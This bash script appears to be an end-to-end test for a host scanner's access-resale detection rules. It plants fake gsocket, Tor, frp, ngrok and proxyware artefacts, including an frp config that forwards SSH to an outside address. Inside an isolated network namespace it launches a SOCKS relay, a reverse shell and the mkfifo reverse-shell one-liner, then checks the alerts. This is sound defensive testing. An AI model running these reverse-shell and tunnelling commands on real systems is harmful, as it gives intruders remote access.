#!/bin/bash
# Access resale (RM-RES-001..004).
# (c) a --root image with gsocket, Tor, frp, ngrok and proxyware artefacts:
#     RM-RES-002 names each file (never the ngrok token), RM-RES-004 the
#     Docker container of a proxyware image; the packaged /etc/tor/torrc
#     is not reported.
# Live, as root, everything inside a private network namespace (unshare -n,
# lo and a dummy interface with 10.77.40.1 and 10.77.40.2; nothing leaves
# it):
# (a) a SOCKS-proxy-shaped relay started from /tmp, listening on
#     10.77.40.1:1080 and connected to a peer at 10.77.40.2:9000:
#     RM-RES-001 high with its pid, listen address and peer;
# (b) a reverse shell started from /tmp: /bin/sh whose stdin/stdout are a
#     socket connected to 10.77.40.2:4444: RM-RES-003 critical naming the
#     shell's pid and the peer; and the mkfifo form (`cat f | sh -i | nc
#     10.77.40.2 5555 > f`): RM-RES-003 critical on the sh, naming the nc;
# (d) negatives: `ssh -D 1080 admin@10.77.40.2` on a terminal (at most
#     low), and the packaged nginx (/usr/sbin/nginx, its own -c config)
#     listening on 10.77.40.1:8080 while forwarding a request to an app at
#     10.77.40.2:9001 (nothing at medium or above).
. "$(dirname "$0")/lib.sh"
need_cmd jq

# ---- (c) the image ------------------------------------------------------------
R=$T/img
mkdir -p "$R/etc" "$R/root/.config/ngrok" "$R/home/admin/.config/htop" \
    "$R/dev/shm/.gs-1000" "$R/tmp/.xdiag/tordata" "$R/var/tmp/.x" \
    "$R/etc/tor" "$R/var/lib/docker/containers/c0ffee" \
    "$R/var/lib/docker/containers/beef"
cat >"$R/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
admin:x:1000:1000:Admin:/home/admin:/bin/bash
EOF
printf '\177ELF-gs-netcat' >"$R/home/admin/.config/htop/defunct"
printf 'secretsecret\n' >"$R/home/admin/.config/htop/defunct.dat"
printf 'SocksPort 9050\nDataDirectory /tmp/.xdiag/tordata\n' >"$R/tmp/.xdiag/torrc"
printf 'x\n' >"$R/tmp/.xdiag/tordata/cached-certs"
printf 'x\n' >"$R/tmp/.xdiag/tordata/cached-microdesc-consensus"
printf '[common]\nserver_addr = 203.0.113.50\nserver_port = 7000\n\n[ssh]\ntype = tcp\nlocal_port = 22\nremote_port = 6000\n' >"$R/var/tmp/.x/frpc.ini"
printf 'version: "2"\nauthtoken: 2XyzTOKENVALUEdoNotLeak_abc\n' >"$R/root/.config/ngrok/ngrok.yml"
printf 'SocksPort 9050\n' >"$R/etc/tor/torrc"
printf '{"ID":"c0ffee","Image":"sha256:00","Config":{"Image":"honeygain/honeygain:latest"}}' \
    >"$R/var/lib/docker/containers/c0ffee/config.v2.json"
printf '{"ID":"beef","Config":{"Image":"nginx:1.25"}}' \
    >"$R/var/lib/docker/containers/beef/config.v2.json"

rm_json "$T/img.json" --root "$R" --facts
I=$T/img.json
img_finding() {  # RULE PATH SEVERITY
	local n
	n=$(jq --arg r "$1" --arg p "$2" '[.findings[] | select(.rule.id == $r and .file.path == $p)] | length' "$I")
	if [ "$n" != 1 ]; then
		jq -r '.findings[] | "  \(.severity) \(.rule.id) \(.file.path // "-") \(.message)"' "$I" >&2
		fail "expected one $1 finding for $2, found $n"
	fi
	F=$(jq -c --arg r "$1" --arg p "$2" '[.findings[] | select(.rule.id == $r and .file.path == $p)][0]' "$I")
	F_WHAT="$1 for $2"
	f_eq .severity "$3"
	f_eq .rule.category access-resale
}
img_finding RM-RES-002 /dev/shm/.gs-1000 high
f_eq .evidence.tool gsocket
img_finding RM-RES-002 /home/admin/.config/htop/defunct high
f_eq .evidence.user admin
img_finding RM-RES-002 /tmp/.xdiag/torrc high
img_finding RM-RES-002 /tmp/.xdiag/tordata high
f_eq .evidence.artefact tor_data_dir
img_finding RM-RES-002 /var/tmp/.x/frpc.ini high
f_eq .evidence.detail server_addr=203.0.113.50
img_finding RM-RES-002 /root/.config/ngrok/ngrok.yml medium
f_eq .evidence.detail authtoken
img_finding RM-RES-004 /var/lib/docker/containers/c0ffee/config.v2.json high
f_eq .evidence.image honeygain/honeygain:latest
jq_true "$I" '[.findings[] | select(.file.path == "/etc/tor/torrc" or
    .file.path == "/var/lib/docker/containers/beef/config.v2.json")] | length == 0' \
	"the packaged torrc or an nginx container was reported"
! grep -q TOKENVALUE "$I" || fail "the ngrok authtoken leaked into the output"
jq_true "$I" '[.facts.access_artefacts[] | select(.kind == "gsocket_shm")] | length == 1' \
	"facts.access_artefacts lacks the gsocket directory"

# ---- live: a private network namespace ------------------------------------------
need_root "a network namespace with a dummy interface"
need_cmd unshare ip nsenter
[ -x "$HELPERS/relay" ] || fail "no $HELPERS/relay helper"

# the relay and the shell run from /tmp, as droppers put them
RD=$(mktemp -d /tmp/rm-e2e40.XXXXXX) || fail "mktemp in /tmp"
track_path "$RD"
cp "$HELPERS/relay" "$RD/socksd"
cp "$HELPERS/relay" "$RD/revsh"

bg ns unshare -n sh -c 'ip link set lo up || exit 1
	if ip link add rm40 type dummy 2>/dev/null; then dev=rm40; ip link set rm40 up; else dev=lo; fi
	ip addr add 10.77.40.1/24 dev $dev && ip addr add 10.77.40.2/24 dev $dev || exit 1
	echo ready $$ $dev
	exec sleep 300'
wait_ready ns
NSPID=${READY[1]}
IN=(nsenter -t "$NSPID" -n)
say "namespace of pid $NSPID, addresses on ${READY[2]}"

bg peer "${IN[@]}" "$HELPERS/relay" hold 10.77.40.2 9000
wait_ready peer
bg lis "${IN[@]}" "$HELPERS/relay" hold 10.77.40.2 4444
wait_ready lis
bg proxy "${IN[@]}" "$RD/socksd" proxy 10.77.40.1 1080 10.77.40.2 9000
wait_ready proxy
PROXY=${READY[1]}
bg shell "${IN[@]}" "$RD/revsh" shell 10.77.40.2 4444
wait_ready shell
SHELLPID=${READY[1]}
wait_exe "$SHELLPID" /usr/bin/dash

# (b2) the mkfifo form: sh -i between a fifo and an nc that holds the
# connection (the "nc" is the helper's netcat mode, copied under that name)
cp "$HELPERS/relay" "$RD/nc"
bg lis2 "${IN[@]}" "$HELPERS/relay" hold 10.77.40.2 5555
wait_ready lis2
bg fifo "${IN[@]}" bash -c 'rm -f "$0/f"; mkfifo "$0/f"; cat "$0/f" | /bin/sh -i 2>&1 | "$0/nc" pipe 10.77.40.2 5555 >"$0/f"' "$RD"
FIFOBASH=$BG_PID
FSH= FNC=
for _ in $(seq 400); do
	FSH=$(ps -e -o pid=,ppid=,comm= | awk -v p="$FIFOBASH" '$2 == p && $3 == "sh" { print $1 }')
	FNC=$(ps -e -o pid=,ppid=,comm= | awk -v p="$FIFOBASH" '$2 == p && $3 == "nc" { print $1 }')
	[ -n "$FSH" ] && [ -n "$FNC" ] && grep -q '^ready' "$T/fifo.err" 2>/dev/null && break
	sleep 0.05
done
[ -n "$FSH" ] && [ -n "$FNC" ] || fail "the mkfifo pipeline did not start: $(cat "$T/fifo.err")"

# (d) the administrator's ssh -D on a terminal (ssh waits for a banner
# from a peer that never sends one)
SSHPID=
if command -v ssh >/dev/null 2>&1; then
	bg sshd22 "${IN[@]}" "$HELPERS/relay" hold 10.77.40.2 22
	wait_ready sshd22
	bg sshneg "${IN[@]}" script -qec "exec ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=120 -D 1080 admin@10.77.40.2" /dev/null
	SCRIPTPID=$BG_PID
	for _ in $(seq 400); do
		SSHPID=$(ps -e -o pid=,ppid=,comm= | awk -v p="$SCRIPTPID" '$2 == p && $3 == "ssh" { print $1 }')
		[ -n "$SSHPID" ] && break
		sleep 0.05
	done
	[ -n "$SSHPID" ] || fail "ssh did not start under script"
else
	say "no ssh client: the ssh -D negative is not run"
fi

# (d) the packaged nginx in front of an app, forwarding one request
NGX=
if [ -x /usr/sbin/nginx ]; then
	bg app "${IN[@]}" "$HELPERS/relay" hold 10.77.40.2 9001
	wait_ready app
	cat >"$T/nginx.conf" <<EOF
worker_processes 1;
error_log $T/nginx.err;
events { worker_connections 16; }
http {
	access_log off;
	client_body_temp_path $T/ngx-body;
	proxy_temp_path $T/ngx-proxy;
	fastcgi_temp_path $T/ngx-fcgi;
	uwsgi_temp_path $T/ngx-uwsgi;
	scgi_temp_path $T/ngx-scgi;
	server {
		listen 10.77.40.1:8080;
		location / { proxy_pass http://10.77.40.2:9001; proxy_read_timeout 120s; }
	}
}
EOF
	bg nginx "${IN[@]}" /usr/sbin/nginx -c "$T/nginx.conf" -g "daemon off; pid $T/nginx.pid;"
	NGX=$BG_PID
	up=0
	for _ in $(seq 400); do
		# 10.77.40.1:8080 listening (state 0A) in the namespace
		if awk '$2 == "01284D0A:1F90" && $4 == "0A" { f = 1 } END { exit !f }' \
		    "/proc/$NSPID/net/tcp"; then
			up=1
			break
		fi
		sleep 0.05
	done
	[ "$up" = 1 ] || fail "nginx does not listen on 10.77.40.1:8080: $(cat "$T/nginx.err" "$T/nginx.out" 2>/dev/null | head -5)"
	bg client "${IN[@]}" "$HELPERS/relay" get 10.77.40.1 8080
	wait_ready client
	# the worker connected to the app
	up=0
	for _ in $(seq 400); do
		# 10.77.40.2:9001 as /proc/net/tcp writes it, ESTABLISHED
		if awk '$3 == "02284D0A:2329" && $4 == "01" { f = 1 } END { exit !f }' \
		    "/proc/$NSPID/net/tcp"; then
			up=1
			break
		fi
		sleep 0.05
	done
	[ "$up" = 1 ] || fail "nginx did not connect to the app at 10.77.40.2:9001"
else
	say "nginx is not installed: the reverse-proxy negative is not run (scripts/deps-debian.sh test installs nginx-light)"
fi

rm_json "$T/live.json" --cpu-window 0
L=$T/live.json
I=$L

# (a) the relay
expect_finding "$L" RM-RES-001 "$PROXY" high
f_eq .rule.category access-resale
jq -e '.evidence.listen | index("10.77.40.1:1080") != null' <<<"$F" >/dev/null ||
	fail "RM-RES-001: listen is $(jq -c .evidence.listen <<<"$F")"
f_eq .evidence.peer 10.77.40.2:9000
f_eq .destination.ip 10.77.40.2
f_eq .destination.port 9000

# (b) the reverse shell
expect_finding "$L" RM-RES-003 "$SHELLPID" critical
f_eq .evidence.peer 10.77.40.2:4444
f_eq .process.name sh
no_finding "$L" RM-RES-003 "$PROXY"
expect_finding "$L" RM-RES-003 "$FSH" critical
f_eq .evidence.peer 10.77.40.2:5555
f_eq .evidence.relay_pid "$FNC"
no_finding "$L" RM-RES-003 "$FNC"

# (d) negatives
if [ -n "$SSHPID" ]; then
	jq_true --argjson p "$SSHPID" "$L" '[.findings[] | select(.process.pid == $p and
	    (.rule.id | startswith("RM-RES")) and
	    (.severity == "medium" or .severity == "high" or .severity == "critical"))] | length == 0' \
		"the administrator's ssh -D on a terminal was reported at medium or above"
fi
if [ -n "$NGX" ]; then
	W=$(ps -e -o pid=,ppid= | awk -v p="$NGX" '$2 == p { print $1 }')
	[ -n "$W" ] || fail "nginx has no worker"
	for p in $NGX $W; do
		jq_true --argjson p "$p" "$L" '[.findings[] | select(.process.pid == $p and
		    (.severity == "medium" or .severity == "high" or .severity == "critical"))] | length == 0' \
			"the packaged nginx (pid $p) was reported at medium or above"
	done
	# not even at low: fronting an app is a reverse proxy's job
	for p in $W; do
		no_finding "$L" RM-RES-001 "$p"
	done
fi
finish
